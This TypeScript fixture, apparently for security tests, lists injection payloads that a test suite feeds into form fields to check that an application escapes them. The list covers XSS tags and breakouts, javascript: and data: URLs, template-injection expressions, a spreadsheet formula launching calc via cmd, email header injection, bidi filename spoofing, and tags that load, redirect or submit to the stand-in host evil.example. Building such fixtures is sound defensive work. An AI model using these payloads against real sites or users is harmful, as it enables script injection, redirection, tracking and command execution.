// Words that would do something if anybody took them for more than words. Markup carries the attribute `injected`, so
// that one question finds whatever became an element; scripts would open a dialog; sums would show their result.

/** What the sums among them would come to. */
export const SUM = '9801547'

const MARKUP = [
  '<img src=x onerror=alert(1) injected>',
  '<script injected>alert(2)</script>',
  '<svg onload=alert(3) injected>',
  '<svg><script injected>alert(4)</script></svg>',
  '<iframe srcdoc="<script>alert(5)</script>" injected>',
  '<body onload=alert(6) injected>',
  '<details open ontoggle=alert(7) injected>',
  '<input autofocus onfocus=alert(8) injected>',
  '<video><source onerror=alert(9) injected></video>',
  '<marquee onstart=alert(10) injected>',
  '<math><mtext><img src=x onerror=alert(11) injected>',
  '<object data=javascript:alert(12) injected>',
  '<embed src=javascript:alert(13) injected>',
  '<base href=//evil.example/ injected>',
  '<link rel=stylesheet href=//evil.example/ injected>',
  '<meta http-equiv=refresh content=0;//evil.example injected>',
  '<style injected>*{display:none}</style>',
  '<form action=//evil.example injected><button>Go',
  '<img src=//evil.example/pixel.gif injected>',
  '<a href="java&#x0a;script:alert(14)" injected>x</a>',
  '<ScRiPt injected>alert(15)</sCrIpT>',
  '<scr<script injected>ipt>alert(16)</script>',
  '<x onclick=alert(17) injected>click',
  '<img name=body id=cookie injected>',
]

/** Out of an attribute, a title, a comment, a script or another element. */
const BREAKOUTS = [
  '"><img src=x onerror=alert(18) injected>',
  "'><img src=x onerror=alert(19) injected>",
  '" onmouseover=alert(20) injected x="',
  "' onmouseover=alert(21) injected x='",
  '</title><svg onload=alert(22) injected>',
  '</textarea><img src=x onerror=alert(23) injected>',
  '</script><script injected>alert(24)</script>',
  '--><img src=x onerror=alert(25) injected><!--',
  ']]><img src=x onerror=alert(26) injected>',
  '</noscript><img src=x onerror=alert(27) injected>',
  '</style><img src=x onerror=alert(28) injected>',
  "'-alert(29)-'",
  '\\";alert(30);//',
  '`${alert(31)}`',
]

const ADDRESSES = [
  'javascript:alert(32)',
  'JaVaScRiPt:alert(33)',
  'data:text/html,<script>alert(34)</script>',
  '//evil.example/',
  'https://evil.example/@example.com',
]

/** For whoever fills in templates, writes Markdown or loads tables. */
const LANGUAGES = [
  '{{1337*7331}}',
  '${1337*7331}',
  '<%= 1337*7331 %>',
  '#{1337*7331}',
  "{{constructor.constructor('alert(35)')()}}",
  '[x](javascript:alert(36))',
  '![x](https://evil.example/m.png)',
  "=cmd|' /C calc'!A0",
  '\r\nBcc: evil@evil.example\r\nX-Injected: 1\r\n',
  '@SUM(1337*7331)',
  '%s%s%n %0d%0a',
]

/** Letters that turn the line around, hide, or look like others. */
const LETTERS = [
  '\u202Egpj.exe',
  '\u2066\u202Efdp.exe\u2069',
  '\u200B\u200D\uFEFF',
  '＜script injected＞alert(37)＜/script＞',
  '\u2028alert(38)\u2029',
  'İıſK',
]

export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...ADDRESSES, ...LANGUAGES, ...LETTERS]

/** So many of them fit into the shortest of the fields. */
const AT_ONCE = 4

/** They stand in the fields in groups, so that few things have to be made. */
export const GROUPS = Math.ceil(PAYLOADS.length / AT_ONCE)

/** The name that stands before each group, for whoever looks whether the words are on a page. */
export const NAME = 'Mallory'

/** The words of a group; numbers go round. */
export function wordsOf(group: number): string {
  const first = (group % GROUPS) * AT_ONCE
  return [NAME, ...PAYLOADS.slice(first, first + AT_ONCE)].join(' ')
}
